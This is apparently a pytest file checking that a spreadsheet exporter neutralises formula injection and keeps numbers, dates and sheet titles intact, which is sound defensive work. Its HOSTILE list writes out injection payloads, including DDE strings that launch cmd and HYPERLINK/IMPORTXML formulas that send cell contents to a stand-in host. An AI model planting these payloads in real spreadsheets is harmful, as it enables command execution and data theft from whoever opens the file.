"""What a workbook holds: text is never a formula, whatever it begins with; numbers and dates stay what they are."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.spreadsheet import Sheet, safe, workbook

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test/?x="&A1,"看这里")',
    '=IMPORTXML(CONCAT("http://example.test/?v=",A1),"//a")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1+1",
    "\x00=1+1",
]
HARMLESS = ["张三", "2026-00417", "A-12", "a=b", "5-1", "", "—", "（＝）", "呼和浩特市"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_be_taken_for_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_program_takes_for_a_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@given(st.text(max_size=40))
def test_no_text_at_all_begins_with_a_sign_that_starts_a_formula(text: str) -> None:
    assert re.match(r"\s*[=+\-@＝＋－＠\t\r]", safe(text)) is None


def test_the_file_holds_no_formula_and_no_link() -> None:
    file = workbook([Sheet("名单", ["姓名", "=cmd|' /C calc'!A0"], [[text, 1] for text in HOSTILE])])

    with zipfile.ZipFile(BytesIO(file)) as parts:
        page = parts.read("xl/worksheets/sheet1.xml").decode()
        names = parts.namelist()
    assert "<f>" not in page and "<f " not in page
    assert not [name for name in names if "externalLink" in name or "vba" in name or "connections" in name]
    for row in openpyxl.load_workbook(BytesIO(file)).active.iter_rows(min_row=2):  # type: ignore[union-attr]
        assert row[0].data_type == "s" and str(row[0].value).startswith("'")


def test_numbers_days_and_instants_stay_what_they_are_and_instants_are_told_in_shanghai() -> None:
    at = datetime(2026, 9, 1, 1, 0, tzinfo=UTC)
    file = workbook([Sheet("数", ["件数", "日", "时刻", "空"], [[-3, date(2026, 9, 1), at, None]])])

    row = next(openpyxl.load_workbook(BytesIO(file)).active.iter_rows(min_row=2))  # type: ignore[union-attr]
    assert [cell.value for cell in row] == [-3, datetime(2026, 9, 1), datetime(2026, 9, 1, 9, 0), None]


def test_a_title_that_excel_refuses_is_mended_and_many_columns_fit() -> None:
    file = workbook([Sheet("期限[2026]/*?:很长的名字" * 4, [f"列{n}" for n in range(30)], [list(range(30))])])

    book = openpyxl.load_workbook(BytesIO(file))
    assert len(book.sheetnames[0]) <= 31
    assert book.active.max_column == 30  # type: ignore[union-attr]
